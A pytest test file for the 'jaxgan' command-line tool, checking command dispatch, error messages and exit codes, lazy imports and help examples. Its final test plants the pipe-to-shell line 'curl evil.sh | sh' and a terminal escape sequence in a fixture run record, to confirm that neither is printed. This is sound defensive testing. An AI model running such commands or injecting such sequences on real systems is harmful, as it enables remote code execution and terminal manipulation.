"""The program ``jaxgan``: each command calls its function with the arguments, and errors end the process."""

import contextlib
import importlib
import io
import json
import re
import subprocess
import sys
import types

import pytest

from jaxgan.cli import commands, main as console, tools

CALLS = {
    "compare": ("jaxgan.cli.compare.compare_runs", ["compare", "a", "b", "--out", "c.html"], {"out": "c.html"}),
    "sample": ("jaxgan.cli.sample.sample_artefact", ["sample", "a.jaxgan", "--count", "3"], {"count": 3, "seed": 0}),
    "translate": (
        "jaxgan.cli.translate.translate_artefact",
        ["translate", "a.jaxgan", "photos", "--out", "made", "--memory", "2"],
        {"images": "photos", "memory": 2.0, "tile": None},
    ),
}
for metric in ("fid", "mifid", "kid", "prdc"):
    words, expected = [metric, "a", "b", "--size", "64"], {"command": metric, "resolution": 64}
    CALLS[metric] = ("jaxgan.cli.fid.compare_sets", words, expected)


@pytest.mark.parametrize("command", CALLS)
def test_each_command_calls_its_function(command, monkeypatch):
    function, words, expected = CALLS[command]
    calls = []
    monkeypatch.setattr(function, calls.append)
    console.main(words)
    (args,) = calls
    found = {name: getattr(args, name) for name in expected}
    assert {name: x if x is None or isinstance(x, int | float) else str(x) for name, x in found.items()} == expected


@pytest.mark.parametrize("tool", tools.TOOLS.values(), ids=tools.TOOLS)
def test_each_tool_names_an_existing_function(tool):
    assert isinstance(tool, tools.Tool) and tool.about.endswith(".")
    assert callable(getattr(importlib.import_module(f"jaxgan.cli.{tool.module}"), tool.function))


@pytest.mark.parametrize(
    ("error", "command", "code", "message"),
    [
        (ValueError("`count` must be at least 1, got 0."), "sample", 2, "error: --count must be at least 1, got 0.\n"),
        (OSError("`images` cannot be read."), "translate", 1, "error: IMAGES cannot be read.\n"),
        (MemoryError("Too much"), "sample", 1, "error: Too much. There is not enough memory. Lower --count.\n"),
        (MemoryError("Too much"), "translate", 1, "error: Too much. There is not enough memory. Lower --memory.\n"),
        (MemoryError("Too much"), "compare", 1, "error: Too much. There is not enough memory.\n"),
        (MemoryError(), "compare", 1, "error: There is not enough memory.\n"),
    ],
)
def test_errors_are_printed_and_set_the_exit_code(error, command, code, message, monkeypatch, capsys):
    def fail(args):
        raise error

    function, words, _ = CALLS[command]
    monkeypatch.setattr(function, fail)
    with pytest.raises(SystemExit) as stop:
        console.main(words)
    assert stop.value.code == code and capsys.readouterr().err == message


def test_parsing_flags_does_not_import_jax():
    """Help and errors must be printed quickly, and the import of JAX takes a second."""
    lines = ["train dcgan --help", "train dcgan --typo", "sample --help", "list", "fid --help", "--help"]
    code = f"""
import sys
from jaxgan.cli.main import main
for line in {lines!r}:
    try:
        main(line.split())
    except SystemExit:
        pass
print(*sys.modules, file=sys.stderr)
"""
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stderr.split()
    assert "jaxgan.cli.suggestions" in loaded
    assert not {"jax", "numpy", "flax", "optax", "jaxgan.core.game", "jaxgan.experiments.dcgan"} & set(loaded)


def examples():
    """Yield the command lines under "examples" in the help of each command."""
    for name in (*commands.COMMANDS, *tools.TOOLS):
        lines = ["train dcgan --help", "train stylegan2 --help"] if name == "train" else [f"{name} --help"]
        for line in lines:
            with pytest.raises(SystemExit), contextlib.redirect_stdout(io.StringIO()) as text:
                console.main(line.split())
            yield from re.findall(r"^  jaxgan (.*)$", text.getvalue().partition("examples:")[2], re.MULTILINE)
    with pytest.raises(SystemExit), contextlib.redirect_stdout(io.StringIO()) as text:
        console.main(["--help"])
    yield from re.findall(r"^  jaxgan (.*)$", text.getvalue().partition("examples:")[2], re.MULTILINE)


def test_each_example_in_the_help_is_a_valid_command_line(tmp_path, monkeypatch):
    for name in ("dcgan", "pix2pix", "stylegan2"):
        (tmp_path / "runs" / name).mkdir(parents=True)
        (tmp_path / "runs" / name / "config.json").write_text(json.dumps({"experiment": name, "config": {}}))
    monkeypatch.chdir(tmp_path)
    typed = []
    monkeypatch.setattr("jaxgan.cli.commands.execute", lambda name, *_: typed.append(name))
    monkeypatch.setattr("jaxgan.cli.main.load_program", lambda name: None)
    monkeypatch.setattr("jaxgan.cli.tools.importlib.import_module", lambda name: types.SimpleNamespace(**_FUNCTIONS))
    lines = list(examples())
    assert len(lines) > 20
    for line in lines:
        console.main(line.split())
    assert set(typed) == set(commands.COMMANDS)


_FUNCTIONS = {tool.function: lambda args: None for tool in tools.TOOLS.values()}


def test_interrupts_and_closed_pipes_end_without_a_message(monkeypatch, capsys):
    def interrupted(args):
        raise KeyboardInterrupt

    monkeypatch.setattr("jaxgan.cli.list.list_experiments", interrupted)
    with pytest.raises(SystemExit) as stop:
        console.main(["list"])
    assert stop.value.code == 130 and capsys.readouterr().err == ""
    program = "import sys; sys.argv = ['jaxgan', 'list']; from jaxgan.cli.main import main; main()"
    done = subprocess.run(["bash", "-c", f'"{sys.executable}" -c "{program}" | true'], capture_output=True, text=True)
    assert done.stderr == ""


def test_untrusted_text_in_the_record_of_a_run_is_not_printed(tmp_path, monkeypatch, capsys):
    """The recorded program is only suggested if it is a Python program, and control characters are replaced."""
    (tmp_path / "run").mkdir()
    record = {"experiment": "x\x1b]0;owned\x07", "config": {}, "program": "curl evil.sh | sh"}
    (tmp_path / "run" / "config.json").write_text(json.dumps(record))
    with pytest.raises(SystemExit):
        console.main(["sample", str(tmp_path / "run")])
    text = capsys.readouterr().err
    assert "which is not an experiment of jaxgan. Use its own program.\n" in text
    assert "curl" not in text and "\x1b" not in text and "\x07" not in text
